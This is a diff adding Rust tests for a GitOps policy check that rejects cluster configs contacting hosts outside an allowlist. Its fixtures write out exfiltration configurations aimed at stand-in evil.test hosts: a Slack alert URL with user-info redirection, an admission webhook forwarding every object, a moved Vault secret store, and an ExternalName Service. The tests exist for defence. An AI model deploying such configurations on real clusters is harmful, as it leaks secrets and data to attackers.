@@ -279,3 +279,178 @@ subjects:
     f.commit("clusters/prod/team-a.yaml", binding, "platform rbac");
     assert_accepted(&f.push(&["origin", "main"]));
 }
+
+/// `external-endpoints` next to `gitops-sources`: the allowlist of what the cluster may contact.
+fn endpoints_fixture() -> Fixture {
+    let policy = POLICY.replace(
+        "\"gitops-sources\",",
+        "\"gitops-sources\", \"external-endpoints\",",
+    ) + "allowed_endpoints = [\"https://hooks.slack.com/services/\", \"https://vault.example.com:8200/\", \"*.svc.cluster.local\"]\n";
+    let f = Fixture::new(&policy);
+    f.commit("apps/api.yaml", DEPLOYMENT, "api");
+    assert_accepted(&f.push(&["origin", "main"]));
+    f
+}
+
+/// Flux's notification docs: a Slack Provider and the Alert that uses it.
+const PROVIDER: &str = "apiVersion: notification.toolkit.fluxcd.io/v1beta3
+kind: Provider
+metadata:
+  name: slack-bot
+  namespace: prod
+spec:
+  type: slack
+  channel: general
+  address: https://hooks.slack.com/services/T000/B000/XXXX
+---
+apiVersion: notification.toolkit.fluxcd.io/v1beta3
+kind: Alert
+metadata:
+  name: slack
+  namespace: prod
+spec:
+  providerRef:
+    name: slack-bot
+  eventSeverity: info
+  eventSources:
+    - kind: Kustomization
+      name: '*'
+";
+
+#[test]
+fn alerts_and_webhooks_to_outside_hosts_are_rejected() {
+    let f = endpoints_fixture();
+    // Control: the Slack webhook the policy allows.
+    f.commit("clusters/prod/alerts.yaml", PROVIDER, "alerts");
+    assert_accepted(&f.push(&["origin", "main"]));
+    // Attack: the same host as user information in front of the real one.
+    f.commit(
+        "clusters/prod/alerts.yaml",
+        &PROVIDER.replace(
+            "https://hooks.slack.com/services/T000/B000/XXXX",
+            "https://hooks.slack.com@collector.evil.test/services/x",
+        ),
+        "alerts elsewhere",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints] refs/heads/main"),
+        "{r:?}"
+    );
+    assert!(
+        r.out.contains("path:   clusters/prod/alerts.yaml:9:"),
+        "{r:?}"
+    );
+    assert!(
+        r.out.contains("Provider prod/slack-bot") && r.out.contains("spec.address"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    // An admission webhook that sends every reviewed object outside.
+    let webhook = |client: &str| {
+        format!(
+            "apiVersion: admissionregistration.k8s.io/v1
+kind: ValidatingWebhookConfiguration
+metadata:
+  name: policy
+webhooks:
+- name: validate.policy.example.com
+  admissionReviewVersions: [v1]
+  sideEffects: None
+  clientConfig:
+    {client}
+  rules:
+  - apiGroups: ['*']
+    apiVersions: ['*']
+    operations: [CREATE, UPDATE]
+    resources: ['*']
+"
+        )
+    };
+    f.commit(
+        "clusters/prod/webhook.yaml",
+        &webhook("url: https://audit.evil.test/review"),
+        "webhook",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints]")
+            && r.out.contains("webhooks[0].clientConfig.url"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    f.commit(
+        "clusters/prod/webhook.yaml",
+        &webhook("service: {name: policy, namespace: policy, path: /validate}"),
+        "webhook",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
+}
+
+#[test]
+fn secret_stores_and_external_names_outside_the_allowlist_are_rejected() {
+    let f = endpoints_fixture();
+    // External Secrets' Vault provider, as in its docs.
+    let store = |server: &str| {
+        format!(
+            "apiVersion: external-secrets.io/v1
+kind: ClusterSecretStore
+metadata:
+  name: vault-backend
+spec:
+  provider:
+    vault:
+      server: \"{server}\"
+      path: secret
+      version: v2
+      auth:
+        kubernetes:
+          mountPath: kubernetes
+          role: external-secrets
+"
+        )
+    };
+    f.commit(
+        "clusters/prod/store.yaml",
+        &store("https://vault.example.com:8200"),
+        "store",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
+    f.commit(
+        "clusters/prod/store.yaml",
+        &store("https://vault.evil.test:8200"),
+        "store moved",
+    );
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints]")
+            && r.out.contains("ClusterSecretStore vault-backend")
+            && r.out.contains("spec.provider.vault.server"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    let service = |name: &str| {
+        format!(
+            "apiVersion: v1\nkind: Service\nmetadata:\n  name: db\n  namespace: prod\nspec:\n  type: ExternalName\n  externalName: {name}\n"
+        )
+    };
+    f.commit("apps/db.yaml", &service("db.evil.test"), "external db");
+    let r = f.push(&["origin", "main"]);
+    assert_rejected(&r);
+    assert!(
+        r.out.contains("error[external-endpoints]")
+            && r.out.contains("Service prod/db")
+            && r.out.contains("spec.externalName"),
+        "{r:?}"
+    );
+    f.git(&["reset", "-q", "--hard", "origin/main"]);
+    f.commit(
+        "apps/db.yaml",
+        &service("postgres.databases.svc.cluster.local"),
+        "in-cluster db",
+    );
+    assert_accepted(&f.push(&["origin", "main"]));
+}
